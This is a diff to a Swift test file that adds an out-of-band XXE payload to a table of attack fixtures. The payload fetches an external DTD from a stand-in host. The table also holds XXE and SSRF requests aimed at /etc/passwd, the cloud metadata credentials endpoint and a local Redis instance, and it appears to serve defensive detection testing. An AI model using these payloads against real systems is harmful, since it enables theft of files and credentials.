@@ -82,6 +82,10 @@ import Testing
       "", "POST /api\nContent-Type: text/xml",
       "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"
     ),
+    (
+      "code-injection", "POST /api\nContent-Type: application/xml",
+      "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.9/e.dtd\"> %d;]><r/>"
+    ),
     ("", "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", ""),
     ("", "GET /fetch?url=gopher://127.0.0.1:6379/_INFO", ""),
     ("", "GET /fetch?url=file:///etc/passwd", ""),
